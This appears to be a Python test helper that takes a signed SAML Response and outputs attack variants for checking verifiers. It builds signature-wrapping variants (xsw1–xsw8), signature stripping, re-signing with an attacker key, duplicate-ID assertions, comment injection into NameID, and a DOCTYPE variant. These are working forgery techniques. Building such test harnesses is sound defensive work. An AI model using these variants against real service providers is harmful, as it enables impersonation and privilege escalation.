"""Attacks on a signed SAML Response, for testing verifiers (`tests/verify_honesty.rs`).

    .peers/venv/bin/python tests/peers/wrap.py < request.json > variants.json

stdin, one JSON object:
  {"xml": "<the signed Response>",
   "evil_name_id": "admin@evil.example",           # what the attacker wants to be
   "attacker_key": "/path/key.pem", "attacker_cert": "/path/cert.pem"}   # for "other_key"
stdout: one JSON object {variant name: XML}, exit 0. Bad input: message on stderr, exit 2.

Everything is done with lxml (parse, move, copy, serialise) and, for "other_key", the python `xmlsec`
bindings (re-signing). No flexgate code. Variants:

  identity             parsed and re-serialised by lxml, nothing changed: every verifier must still accept it
                       (proves the rejections below come from the attack, not from re-serialisation)
  tamper_attribute     one AttributeValue changed (the `roles` one if present)
  tamper_name_id       NameID text changed to evil_name_id
  strip_signatures     NameID changed and every ds:Signature removed
  other_key            NameID changed, then every signature re-made with attacker_key, attacker_cert in KeyInfo
  xsw1                 evil Response (evil unsigned Assertion) as the root; a copy of the original Response
                       signature after its Issuer, holding the original signed Response in a ds:Object
  xsw2                 as xsw1, the original signed Response a sibling just before the copied Signature
  response_in_extensions  evil Response as the root, the original signed Response inside samlp:Extensions
  xsw3                 evil unsigned Assertion inserted before the signed Assertion
  xsw3_after           evil unsigned Assertion inserted after the signed Assertion
  xsw4                 evil Assertion in place of the signed one, which becomes its last child
  xsw5                 evil Assertion carrying a copy of the original Assertion signature in its place; the
                       original signed Assertion appended as the Response's last child
  xsw6                 as xsw5, the original signed Assertion inside the copied signature's ds:Object
  xsw7                 evil unsigned Assertion in place; the original signed Assertion inside samlp:Extensions
  xsw8                 evil Assertion with the copied signature; the original Assertion, its own signature
                       removed, inside that signature's ds:Object
  dup_id_before        evil Assertion with the SAME ID as the signed one, inserted before it
  dup_id_after         the same, inserted after it
  comment_in_name_id   `<!---->` inserted into the NameID text before its last '.', e.g.
                       admin@example.com<!---->.evil.com: the signature still verifies (exclusive c14n
                       drops comments); a verifier must then fail or read the WHOLE value, never "admin@example.com"
  comment_in_attribute the same inside the first AttributeValue that has a '.' (or its middle)
  doctype              the identity document behind a DOCTYPE with an internal entity (SAML forbids DTDs)

"Evil Assertion" = a copy of the original Assertion, its signature removed, ID changed, NameID = evil_name_id,
every `roles` value "admin", every `email` value evil_name_id. When the document has no Assertion signature,
the xsw5/6/8 copies use the Response's signature instead.
"""
import copy
import json
import sys

try:
    from lxml import etree
    import xmlsec
except ImportError as e:
    sys.stderr.write(f"lxml/xmlsec not importable ({e}); run scripts/install-test-deps and use .peers/venv/bin/python\n")
    sys.exit(2)

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}


def q(ns, name):
    return f"{{{ns}}}{name}"


def parse(xml):
    parser = etree.XMLParser(remove_blank_text=False, remove_comments=False, resolve_entities=False,
                             no_network=True)
    return etree.fromstring(xml.encode("utf-8"), parser)


def ser(root):
    return etree.tostring(root, encoding="unicode")


def direct(node, ns, name):
    return [c for c in node if isinstance(c.tag, str) and c.tag == q(ns, name)]


def assertion_of(root):
    a = direct(root, SAML, "Assertion")
    if len(a) != 1:
        raise ValueError(f"expected one Assertion child of the Response, found {len(a)}")
    return a[0]


def sig_of(node):
    s = direct(node, DS, "Signature")
    return s[0] if s else None


def insert_after_issuer(parent, child):
    iss = direct(parent, SAML, "Issuer")
    if iss:
        iss[0].addnext(child)
    else:
        parent.insert(0, child)


def set_evil_values(a, evil):
    for n in a.iter(q(SAML, "NameID")):
        n.text = evil
    for attr in a.iter(q(SAML, "Attribute")):
        name = attr.get("Name")
        for v in attr.findall(q(SAML, "AttributeValue")):
            if name == "roles":
                v.text = "admin"
            elif name == "email":
                v.text = evil


def evil_assertion(a, evil, keep_id=False):
    e = copy.deepcopy(a)
    s = sig_of(e)
    if s is not None:
        e.remove(s)
    if not keep_id:
        e.set("ID", "_evil" + a.get("ID", "").lstrip("_"))
    set_evil_values(e, evil)
    return e


def evil_response(root, evil):
    r = copy.deepcopy(root)
    s = sig_of(r)
    if s is not None:
        r.remove(s)
    r.set("ID", "_evilresp" + root.get("ID", "").lstrip("_"))
    a = assertion_of(r)
    a.getparent().replace(a, evil_assertion(a, evil))
    return r


def ds_object(content):
    o = etree.Element(q(DS, "Object"), nsmap={"ds": DS})
    o.append(content)
    return o


def inject_comment(node):
    """Splits node.text before its last '.' (else in the middle) with an empty comment."""
    t = node.text or ""
    i = t.rfind(".")
    if i <= 0:
        i = len(t) // 2
    node.text = t[:i]
    c = etree.Comment("")
    c.tail = t[i:]
    node.insert(0, c)


def resign(root, key_path, cert_path):
    """Re-makes every signature (Assertion first) with the attacker's key, its cert in KeyInfo."""
    xmlsec.tree.add_ids(root, ["ID"])
    sigs = [s for s in root.iter(q(DS, "Signature"))]
    sigs.sort(key=lambda s: 0 if s.getparent().tag == q(SAML, "Assertion") else 1)
    key = xmlsec.Key.from_file(key_path, xmlsec.constants.KeyDataFormatPem)
    key.load_cert_from_file(cert_path, xmlsec.constants.KeyDataFormatPem)
    for s in sigs:
        for dv in s.iter(q(DS, "DigestValue")):
            dv.text = ""
        for sv in s.iter(q(DS, "SignatureValue")):
            sv.text = ""
        for ki in direct(s, DS, "KeyInfo"):
            s.remove(ki)
        ki = etree.SubElement(s, q(DS, "KeyInfo"))
        etree.SubElement(ki, q(DS, "X509Data"))
        ctx = xmlsec.SignatureContext()
        ctx.key = key
        ctx.sign(s)


def variants(xml, evil, attacker_key, attacker_cert):
    base = parse(xml)
    out = {}

    def make(name, fn):
        root = copy.deepcopy(base)
        res = fn(root)
        out[name] = ser(res if res is not None else root)

    make("identity", lambda r: None)

    def tamper_attribute(r):
        a = assertion_of(r)
        attrs = list(a.iter(q(SAML, "Attribute")))
        pick = [x for x in attrs if x.get("Name") == "roles"] or attrs
        v = pick[0].find(q(SAML, "AttributeValue"))
        v.text = "admin" if v.text != "admin" else "agent"
    make("tamper_attribute", tamper_attribute)

    def tamper_name_id(r):
        for n in r.iter(q(SAML, "NameID")):
            n.text = evil
    make("tamper_name_id", tamper_name_id)

    def strip_signatures(r):
        tamper_name_id(r)
        for s in list(r.iter(q(DS, "Signature"))):
            s.getparent().remove(s)
    make("strip_signatures", strip_signatures)

    if attacker_key and attacker_cert:
        def other_key(r):
            tamper_name_id(r)
            resign(r, attacker_key, attacker_cert)
        make("other_key", other_key)

    def xsw1(r):
        e = evil_response(r, evil)
        s = copy.deepcopy(sig_of(r) if sig_of(r) is not None else sig_of(assertion_of(r)))
        s.append(ds_object(r))
        insert_after_issuer(e, s)
        return e
    make("xsw1", xsw1)

    def xsw2(r):
        e = evil_response(r, evil)
        s = copy.deepcopy(sig_of(r) if sig_of(r) is not None else sig_of(assertion_of(r)))
        insert_after_issuer(e, s)
        s.addprevious(r)
        return e
    make("xsw2", xsw2)

    def response_in_extensions(r):
        e = evil_response(r, evil)
        ext = etree.Element(q(SAMLP, "Extensions"), nsmap={"samlp": SAMLP})
        ext.append(r)
        insert_after_issuer(e, ext)
        return e
    make("response_in_extensions", response_in_extensions)

    def xsw3(r):
        a = assertion_of(r)
        a.addprevious(evil_assertion(a, evil))
    make("xsw3", xsw3)

    def xsw3_after(r):
        a = assertion_of(r)
        a.addnext(evil_assertion(a, evil))
    make("xsw3_after", xsw3_after)

    def xsw4(r):
        a = assertion_of(r)
        e = evil_assertion(a, evil)
        r.replace(a, e)
        e.append(a)
    make("xsw4", xsw4)

    def copied_sig(r, a):
        s = sig_of(a) if sig_of(a) is not None else sig_of(r)
        return copy.deepcopy(s)

    def xsw5(r):
        a = assertion_of(r)
        e = evil_assertion(a, evil)
        insert_after_issuer(e, copied_sig(r, a))
        r.replace(a, e)
        r.append(a)
    make("xsw5", xsw5)

    def xsw6(r):
        a = assertion_of(r)
        e = evil_assertion(a, evil)
        s = copied_sig(r, a)
        insert_after_issuer(e, s)
        r.replace(a, e)
        s.append(ds_object(a))
    make("xsw6", xsw6)

    def xsw7(r):
        a = assertion_of(r)
        e = evil_assertion(a, evil)
        r.replace(a, e)
        ext = etree.Element(q(SAMLP, "Extensions"), nsmap={"samlp": SAMLP})
        ext.append(a)
        anchor = sig_of(r)
        if anchor is None:
            anchor = direct(r, SAML, "Issuer")[0]
        anchor.addnext(ext)
    make("xsw7", xsw7)

    def xsw8(r):
        a = assertion_of(r)
        e = evil_assertion(a, evil)
        s = copied_sig(r, a)
        insert_after_issuer(e, s)
        r.replace(a, e)
        own = sig_of(a)
        if own is not None:
            a.remove(own)
        s.append(ds_object(a))
    make("xsw8", xsw8)

    def dup_id_before(r):
        a = assertion_of(r)
        a.addprevious(evil_assertion(a, evil, keep_id=True))
    make("dup_id_before", dup_id_before)

    def dup_id_after(r):
        a = assertion_of(r)
        a.addnext(evil_assertion(a, evil, keep_id=True))
    make("dup_id_after", dup_id_after)

    def comment_in_name_id(r):
        inject_comment(next(assertion_of(r).iter(q(SAML, "NameID"))))
    make("comment_in_name_id", comment_in_name_id)

    def comment_in_attribute(r):
        vals = [v for v in assertion_of(r).iter(q(SAML, "AttributeValue")) if v.text and len(v.text) > 1]
        dotted = [v for v in vals if "." in v.text[1:]]
        inject_comment((dotted or vals)[0])
    make("comment_in_attribute", comment_in_attribute)

    # A DTD with an internal entity, otherwise the identity document: SAML forbids DTDs (XXE,
    # entity expansion); every verifier must refuse before looking further.
    out["doctype"] = '<!DOCTYPE Response [<!ENTITY e "x">]>\n' + out["identity"]
    return out


def main():
    try:
        req = json.loads(sys.stdin.read())
        out = variants(req["xml"], req.get("evil_name_id", "admin@evil.example"),
                       req.get("attacker_key"), req.get("attacker_cert"))
    except (ValueError, KeyError, TypeError, OSError, etree.XMLSyntaxError, xmlsec.Error) as e:
        sys.stderr.write(f"wrap.py: {type(e).__name__}: {e}\n")
        sys.exit(2)
    sys.stdout.write(json.dumps(out))


if __name__ == "__main__":
    main()
